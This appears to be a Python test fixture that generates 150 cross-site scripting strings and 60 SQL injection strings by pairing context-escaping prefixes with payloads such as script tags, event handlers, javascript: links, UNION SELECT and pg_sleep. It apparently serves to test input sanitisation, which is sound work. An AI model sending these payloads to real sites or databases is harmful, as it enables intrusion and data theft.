"""What is sent to break out of a page or of a question to the database; made by putting ways out before ways to do harm."""

from itertools import product

WAYS_OUT = ("", '">', "'>", "</p>", "</textarea>", "</title>", "</script>", "-->", "]]>", "\u2028")
HARM = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert(1)>x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//elders.example/><p>x",
    '" onmouseover=alert(1) style=position:fixed;inset:0 x="',
    "{{constructor.constructor('alert(1)')()}}${alert(1)}",
)
SCRIPTS = tuple(out + harm for out, harm in product(WAYS_OUT, HARM))
"""One hundred and fifty texts that would run something if a page took one of them for markup; each has letters in it."""

_CLOSERS = ("", "'", '"', "')", "';", "0)", "\\'", "`", "\u02bc", "%27")
_QUESTIONS = (
    " OR 1=1 --",
    " UNION SELECT text FROM dossier_note --",
    "; SELECT pg_sleep(9) --",
    ",(SELECT name FROM accounts_account LIMIT 1)",
    "::int/0",
    " ORDER BY person__search_key",
)
INJECTIONS = tuple(closer + question for closer, question in product(_CLOSERS, _QUESTIONS))
"""Sixty texts that would change a question to the database, or its order, if one of them became a part of it."""
